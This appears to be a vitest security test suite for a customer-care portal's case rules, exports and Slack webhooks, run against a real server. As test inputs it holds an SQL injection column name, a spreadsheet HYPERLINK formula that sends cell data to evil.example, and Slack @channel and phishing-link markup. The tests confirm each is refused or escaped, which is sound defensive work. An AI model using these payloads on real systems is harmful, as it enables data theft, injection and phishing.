// Attacks on closing the loop (issue 45): case rules and their preview, the rules applied to
// anonymous public answers, round-robin owners, bulk work on cases, the e-mail preview, the
// history export and the recovery survey, against the real server over HTTP.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { inParallel, startPortal, type Portal } from './portal';
import { scryptHasher } from '../../server/auth/password';
import { DEMO_PASSWORD } from '../../server/seed/people';
import { putSourceSettings } from '../../server/caserules/store';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deliverDue } from '../../server/webhooks/worker';
import { startWebhookReceiver } from '../tools/webhook-receiver';

let portal: Portal;
let admin: string;
let northAdmin: string;
let north: string;
beforeAll(async () => {
  portal = await startPortal(1000);
  admin = (await portal.signIn('portaladmin@demo.cx')).access;
  north = (await portal.signIn('north.manager@demo.cx')).access;
  // A PortalAdmin whose claims restrict the data to the region North.
  await portal.db.query(
    `INSERT INTO users (id, user_name, email, first_name, last_name, role, password_hash, created_on, change_password_on_next_login, can_manage_app_registrations, failed_sign_ins)
     VALUES ('u-north-admin', 'north.admin@demo.cx', 'north.admin@demo.cx', 'Nina', 'Northadmin', 'PortalAdmin', $1, CAST($2 AS TIMESTAMP), false, false, 0)`,
    [await scryptHasher.hash(DEMO_PASSWORD), portal.clock.now],
  );
  await portal.db.query("INSERT INTO user_claims (user_id, claim_type, claim_value) VALUES ('u-north-admin', 'Region', 'North')");
  northAdmin = (await portal.signIn('north.admin@demo.cx')).access;
}, 60_000);
afterAll(() => portal.close());

type Body = Record<string, unknown>;
const rule = (over: Body = {}): Body => ({
  sourceId: 'responses', name: 'Detractors', enabled: true, queue: 'Customer care', priority: 'Normal', owner: { kind: 'none' },
  conditions: [{ kind: 'score', column: 'NPS', atMost: 6 }], ...over,
});
const preview = (body: Body, token = admin) => portal.call('POST', '/api/caserules/preview', { token, body });
const count = async (sql: string, params: unknown[] = []) => Number((await portal.db.query<{ n: number }>(sql, params as never[]))[0].n);
async function withRule<T>(body: Body, run: (id: string) => Promise<T>): Promise<T> {
  const made = await portal.call('POST', '/api/caserules', { token: admin, body: rule(body) });
  expect(made.status, made.text).toBe(201);
  try {
    return await run(made.body.id);
  } finally {
    await portal.call('DELETE', `/api/caserules/${made.body.id}`, { token: admin });
  }
}

/** A published survey reporting to the responses under a store: a function answering it anonymously (its response id). */
async function surveyFor(store: string) {
  const token = (await portal.signIn('surveyeditor@demo.cx')).access;
  const created = (await portal.call('POST', '/api/surveys', { token, body: { title: `Visit ${store}` } })).body;
  const [{ channel }] = await portal.db.query<{ channel: string }>('SELECT channel FROM responses LIMIT 1');
  const questions = [...created.definition.questions, { id: 'why', kind: 'text', required: false, text: { en: 'Tell us more' } }];
  const saved = await portal.call('PUT', `/api/surveys/${created.shortcode}`, { token, body: { version: created.version, settings: { ...created.settings, reportToResponses: true, stores: [store], channel }, definition: { ...created.definition, questions } } });
  expect(saved.status, saved.text).toBe(200);
  expect((await portal.call('POST', `/api/surveys/${created.shortcode}/publish`, { token, body: { version: saved.body.version } })).status).toBe(200);
  const id = (kind: string) => (questions as Array<{ id: string; kind: string }>).find((x) => x.kind === kind)!.id;
  return (nps: number, comment: string, from = '127.0.6.1') =>
    portal.call('POST', `/api/survey/${created.shortcode}/responses`, { from, body: { answers: { [id('nps')]: nps, [id('stars')]: 3, [id('text')]: comment }, locale: 'en' } });
}
const storeIn = async (region: string) => (await portal.db.query<{ store: string }>('SELECT store FROM responses WHERE region = $1 ORDER BY store LIMIT 1', [region]))[0].store;

describe('a restricted administrator writing rules', () => {
  it('previews only the rows their claims reach: no count, sample or choice of another region', async () => {
    const south = rule({ conditions: [{ kind: 'values', column: 'Region', values: ['South'] }] });
    const all = await preview(south);
    expect(all.status).toBe(200);
    expect(all.body.matches).toBeGreaterThan(0);

    const seen = await preview(south, northAdmin);
    expect(seen.status, seen.text).toBe(200);
    expect(seen.body.matches).toBe(0);
    expect(seen.body.sample).toEqual([]);
    const both = rule({ conditions: [{ kind: 'values', column: 'Region', values: ['North', 'South'] }] });
    const mine = await preview(both, northAdmin);
    expect(mine.body.matches).toBeGreaterThan(0);
    expect(mine.body.matches).toBeLessThan((await preview(both)).body.matches);
    expect(mine.body.message).toMatch(/ among the rows your claims let you see\.$/);
    expect(new Set(mine.body.sample.map((r: Body) => r.Region))).toEqual(new Set(['North']));

    const options = await portal.call('GET', '/api/caserules/options?sourceId=responses', { token: northAdmin });
    expect(options.status).toBe(200);
    const values = (key: string) => options.body.columns.find((c: { key: string }) => c.key === key).values;
    expect(values('Region')).toEqual(['North']);
    const southStores = (await portal.db.query<{ store: string }>("SELECT DISTINCT store FROM responses WHERE region <> 'North'")).map((r) => r.store);
    for (const store of values('Store') ?? []) expect(southStores).not.toContain(store);
  });
});

describe('rule conditions', () => {
  it('take LIKE wildcards as letters, and refuse unknown or hidden fields and over-long lists with a 400', async () => {
    const words = (w: string[]) => preview(rule({ conditions: [{ kind: 'words', column: 'Verbatim', words: w }] }));
    const any = await words(['e']);
    expect(any.body.matches).toBeGreaterThan(0);
    for (const w of ['%', '_', '!%', '%_%']) expect((await words([w])).body.matches, w).toBe(0);
    const bad = [
      { conditions: [{ kind: 'score', column: 'nps; DROP TABLE responses', atMost: 6 }] },
      { conditions: [{ kind: 'values', column: 'CustomerEmail', values: ['a@b.c'] }] },
      { conditions: [{ kind: 'words', column: 'NPS', words: ['x'] }] },
      { conditions: [{ kind: 'words', column: 'Verbatim', words: Array.from({ length: 101 }, (_, i) => `w${i}`) }] },
      { conditions: Array.from({ length: 11 }, () => ({ kind: 'score', column: 'NPS', atMost: 6 })) },
    ];
    for (const b of bad) expect((await preview(rule(b))).status, JSON.stringify(b).slice(0, 60)).toBe(400);
    expect(await count('SELECT count(*) AS n FROM responses')).toBeGreaterThan(0);
  });
});

describe('public answers under case rules', () => {
  it('are still taken when a field a rule names has been hidden since: the rule no longer matches', async () => {
    const global = (await portal.signIn('globaladmin@demo.cx')).access;
    const answer = await surveyFor(await storeIn('North'));
    await withRule({ name: 'North detractors', conditions: [{ kind: 'values', column: 'Region', values: ['North'] }] }, async () => {
      const hide = (hidden: boolean) => portal.call('PATCH', '/api/datasources/responses', { token: global, body: { columns: [{ key: 'Region', hidden }] } });
      expect((await hide(true)).status).toBe(200);
      try {
        const before = await count('SELECT count(*) AS n FROM cases');
        const sent = await answer(1, 'hidden field', '127.0.6.2');
        expect(sent.status, sent.text).toBe(201);
        expect(await count('SELECT count(*) AS n FROM cases')).toBe(before);
        expect((await portal.call('GET', '/api/caserules?sourceId=responses', { token: admin })).status).toBe(200);
      } finally {
        expect((await hide(false)).status).toBe(200);
      }
    });
  });

  it('open a case on a queue of the longest deadlines and a one-minute working week without walking twenty years of days', async () => {
    const queue = { name: 'Sundays only', firstResponseHours: { High: 10_000, Normal: 10_000, Low: 10_000 }, resolutionHours: { High: 10_000, Normal: 10_000, Low: 10_000 }, calendar: { days: [0], start: '09:00', end: '09:01', timeZone: 'Europe/Berlin' } };
    expect((await portal.call('PUT', '/api/casesettings/queues/Sundays%20only', { token: admin, body: queue })).status).toBe(200);
    const answer = await surveyFor(await storeIn('North'));
    await withRule({ name: 'Slow queue', queue: 'Sundays only', conditions: [{ kind: 'words', column: 'Verbatim', words: ['sundays'] }] }, async () => {
      // The work an answer costs the server, counted as the zone's clock readings (each a few microseconds).
      const readings = vi.spyOn(Intl.DateTimeFormat.prototype, 'formatToParts');
      try {
        const sent = await answer(0, 'open on sundays only', '127.0.6.3');
        expect(sent.status, sent.text).toBe(201);
        expect(readings.mock.calls.length).toBeLessThan(2000);
      } finally {
        readings.mockRestore();
      }
      const [c] = await portal.db.query<{ first_response_due_at: Date; resolution_due_at: Date }>("SELECT first_response_due_at, resolution_due_at FROM cases WHERE rule_name = 'Slow queue'");
      expect(c.first_response_due_at).not.toBeNull();
      expect(new Date(c.resolution_due_at).getTime()).toBeGreaterThan(portal.clock.now.getTime() + 10 * 365 * 86_400_000);
    });
  });

  it('share a group’s cases in turn when answers come at once', async () => {
    await portal.db.query("INSERT INTO groups (id, name, description) VALUES ('g-care', 'Care team', '')");
    await portal.db.query("INSERT INTO group_members (group_id, user_id) VALUES ('g-care', 'u-portaluser'), ('g-care', 'u-portaladmin')");
    // Answers to one survey take turns on its answer count: several surveys' answers do not.
    const surveys = await Promise.all(Array.from({ length: 4 }, async () => surveyFor(await storeIn('North'))));
    const answer = (nps: number, comment: string, from: string, i: number) => surveys[i % surveys.length](nps, comment, from);
    await withRule({ name: 'Turns', owner: { kind: 'group', groupId: 'g-care' }, conditions: [{ kind: 'words', column: 'Verbatim', words: ['in turn'] }] }, async () => {
      const replies = await inParallel(8, (i) => answer(1, `served in turn ${i}`, `127.0.7.${i + 1}`, i));
      expect(replies.map((r) => r.status)).toEqual(Array(8).fill(201));
      const owners = await portal.db.query<{ owner: string; n: number }>("SELECT allocated_to_user_id AS owner, count(*) AS n FROM cases WHERE rule_name = 'Turns' GROUP BY 1 ORDER BY 1");
      expect(owners.map((o) => [o.owner, Number(o.n)])).toEqual([['u-portaladmin', 4], ['u-portaluser', 4]]);
    });
  });
});

describe('a user restricted to the North', () => {
  it('reaches no South case through bulk actions, the e-mail preview or the history export', async () => {
    const [southCase] = await portal.db.query<{ pfo_id: string; version: number; state: string }>(
      "SELECT pfo_id, version, state FROM cases WHERE module_id = 'cases' AND region = 'South' AND state IN ('Assigned', 'InProgress') ORDER BY pfo_id LIMIT 1",
    );
    const bulk = await portal.call('POST', '/api/processflow/cases/bulkaction', { token: north, body: { pfoIds: [southCase.pfo_id], actionName: 'Close without action', comment: 'mine now', actionProperties: JSON.stringify({ problemResolved: false }) } });
    expect(bulk.status).toBe(200);
    expect(bulk.body.results).toEqual([{ pfoId: southCase.pfo_id, ok: false, messages: ['No such case.'] }]);
    expect((await portal.db.query('SELECT version, state FROM cases WHERE pfo_id = $1', [southCase.pfo_id]))[0]).toMatchObject({ version: southCase.version, state: southCase.state });
    expect((await portal.call('POST', `/api/processflow/cases/emailpreview/${southCase.pfo_id}`, { token: north, body: { subject: 'x', comment: 'y' } })).status).toBe(404);
    expect((await portal.call('GET', `/api/processflow/cases/processFlowObjectHistory/${southCase.pfo_id}/export`, { token: north })).status).toBe(404);
    for (const source of ['case-outcomes', 'recovery']) {
      const filters = await portal.call('POST', `/api/smartdata/filters/${source}`, { token: north, body: {} });
      expect(filters.status, source).toBe(200);
      const regions = filters.body.smartFilters.find((f: { filterKey: string }) => f.filterKey === 'Region')?.filterDimensionValues ?? [];
      for (const v of regions) expect(v.dimensionValue, source).toBe('North');
    }
  });
});

describe('the history export', () => {
  it('writes a comment or a name that starts a formula as text', async () => {
    const [c] = await portal.db.query<{ pfo_id: string; version: number }>("SELECT pfo_id, version FROM cases WHERE module_id = 'cases' AND state IN ('New', 'Assigned') ORDER BY pfo_id DESC LIMIT 1");
    const comment = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const acted = await portal.call('POST', `/api/processflow/cases/processFlowObject/action/${c.pfo_id}`, { token: admin, body: { actionName: 'Start work', comment, actionProperties: JSON.stringify({ version: Number(c.version) }) } });
    expect(acted.status, acted.text).toBe(200);
    const csv = await portal.call('GET', `/api/processflow/cases/processFlowObjectHistory/${c.pfo_id}/export`, { token: admin });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    expect(csv.text).not.toMatch(/(^|[,\n])"?=HYPERLINK/m);
  });
});

describe('closing two cases of one customer at once', () => {
  it('sends one recovery survey: the other closing is suppressed', async () => {
    const token = (await portal.signIn('surveyeditor@demo.cx')).access;
    const created = (await portal.call('POST', '/api/surveys', { token, body: { title: 'How did we do?' } })).body;
    const saved = await portal.call('PUT', `/api/surveys/${created.shortcode}`, { token, body: { version: created.version, settings: { ...created.settings, reportToResponses: false, stores: [] }, definition: created.definition } });
    expect(saved.status, saved.text).toBe(200);
    const published = await portal.call('POST', `/api/surveys/${created.shortcode}/publish`, { token, body: { version: saved.body.version } });
    expect(published.status, published.text).toBe(200);
    await putSourceSettings(portal.db, 'responses', { rootCauses: [], recoverySurvey: created.shortcode, suppressionDays: 30 }, portal.clock.now);
    const pair = await portal.db.query<{ pfo_id: string; source_object_id: number; version: number }>(
      "SELECT pfo_id, source_object_id, version FROM cases WHERE module_id = 'cases' AND state IN ('New', 'Assigned', 'InProgress') AND region = 'North' ORDER BY pfo_id LIMIT 2",
    );
    for (const c of pair) await portal.db.query("UPDATE responses SET customer_email = 'same.customer@example.com' WHERE id = $1", [Number(c.source_object_id)]);
    const close = (c: (typeof pair)[number]) =>
      portal.call('POST', `/api/processflow/cases/processFlowObject/action/${c.pfo_id}`, {
        token: admin, body: { actionName: 'Close without action', comment: 'done', actionProperties: JSON.stringify({ version: Number(c.version), problemResolved: true, sendRecoverySurvey: true }) },
      });
    const replies = await Promise.all(pair.map(close));
    expect(replies.map((r) => r.status)).toEqual([200, 200]);
    expect(await portal.mails('same.customer@example.com')).toHaveLength(1);
    const outcomes = replies.map((r) => r.body.actionHistoryRecord.properties.recoverySurvey);
    expect(outcomes.sort()).toEqual(['sent', 'suppressed']);
  });
});

describe('a chat webhook', () => {
  it('carries a closing’s free-text root cause as text: no @channel or link markup in the Slack message', async () => {
    const receiver = await startWebhookReceiver({ certDir: mkdtempSync(join(tmpdir(), 'cx-case-rules-hook-')) });
    vi.stubEnv('WEBHOOK_ALLOW_PRIVATE', '1');
    vi.stubEnv('WEBHOOK_CA_FILE', receiver.caFile);
    try {
      const hook = await portal.call('POST', '/api/webhooks', { token: admin, body: { name: 'Care channel', url: `${receiver.httpsOrigin}/in`, events: ['case.closed'], format: 'slack' } });
      expect(hook.status, hook.text).toBe(201);
      // No root causes listed for the source: a closing may name any.
      await putSourceSettings(portal.db, 'responses', { rootCauses: [], recoverySurvey: null, suppressionDays: 30 }, portal.clock.now);
      const [c] = await portal.db.query<{ pfo_id: string; version: number }>("SELECT pfo_id, version FROM cases WHERE module_id = 'cases' AND state IN ('New', 'Assigned', 'InProgress') ORDER BY pfo_id DESC LIMIT 1");
      const user = (await portal.signIn('portaluser@demo.cx')).access;
      const rootCause = '<!channel> <https://evil.example/login|Verify your account> &amp;';
      const closed = await portal.call('POST', `/api/processflow/cases/processFlowObject/action/${c.pfo_id}`, {
        token: user, body: { actionName: 'Close without action', comment: 'done', actionProperties: JSON.stringify({ version: Number(c.version), problemResolved: false, rootCause }) },
      });
      expect(closed.status, closed.text).toBe(200);
      await deliverDue(portal.db, portal.clock.now);
      expect(receiver.received).toHaveLength(1);
      const body = JSON.parse(receiver.received[0].body) as { text: string; blocks: Array<{ text?: { text: string } }> };
      for (const text of [body.text, ...body.blocks.map((b) => b.text?.text ?? '')]) {
        expect(text).not.toContain('<!channel>');
        expect(text).not.toContain('<https://evil.example');
      }
      expect(body.text).toContain('&lt;!channel&gt;');
    } finally {
      vi.unstubAllEnvs();
      await portal.db.query('DELETE FROM webhook_deliveries');
      await portal.db.query('DELETE FROM webhooks');
      await receiver.close();
    }
  });
});
